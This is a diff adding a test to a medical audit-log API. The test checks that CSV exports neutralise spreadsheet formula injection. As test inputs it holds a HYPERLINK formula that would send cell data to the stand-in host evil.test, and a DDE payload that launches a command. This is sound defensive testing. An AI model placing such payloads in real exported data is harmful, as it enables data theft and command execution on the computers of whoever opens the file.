@@ -141,6 +141,44 @@ async def test_export_round_trips_as_csv_and_jsonl(client, db, settings) -> None
     assert bad.status_code in (400, 422)
 
 
+async def test_the_csv_export_never_hands_a_spreadsheet_a_formula(client, db, settings) -> None:
+    admin = await make_person(db, settings, "admin")
+    hostile = '=HYPERLINK("http://evil.test/?x="&A1,"click")'
+    # A real failed sign-in carries the client's User-Agent into its event...
+    login = await client.post(
+        "/api/v1/auth/login",
+        json={"email": "nobody@example.test", "password": "wrongpass1"},
+        headers={"User-Agent": hostile},
+    )
+    assert login.status_code == 401
+    failed = await db.outbox.find_one({"event.type": "auth.login_failed"})
+    # ...and the audit processor (not running here) would append it like this.
+    await append(db, _key(settings), audit_record(failed["event"], source="auth.events"))
+    others = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "plain; ok"]
+    for agent in others:
+        event = new_event(
+            EventType.RECORD_ACCESSED,
+            actor=Actor(id="d1", role="doctor"),
+            subject=Subject(type="consultation", id="c1"),
+            patient_id="p1",
+            context=EventContext(user_agent=agent),
+        )
+        await append(db, _key(settings), audit_record(event.to_message(), source="test"))
+
+    exported = await client.get("/api/v1/admin/audit-logs/export?format=csv", headers=admin.headers)
+    assert exported.status_code == 200
+    table = list(csv.DictReader(io.StringIO(exported.text, newline="")))
+    assert [r["user_agent"] for r in table] == ["'" + hostile, *("'" + a for a in others[:-1]),
+                                                "plain; ok"]  # fmt: skip
+    for row in table:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
+    # JSONL is data, not a spreadsheet: it keeps the value exactly as recorded.
+    jsonl = await client.get("/api/v1/admin/audit-logs/export?format=jsonl", headers=admin.headers)
+    agents = [json.loads(line)["user_agent"] for line in jsonl.text.splitlines()]
+    assert agents == [hostile, *others]
+
+
 async def _chain_of(db, settings, count: int) -> list[dict]:  # type: ignore[no-untyped-def]
     """`count` chained access records, hashed as `append` does but stored in bulk."""
     docs, prev = [], GENESIS
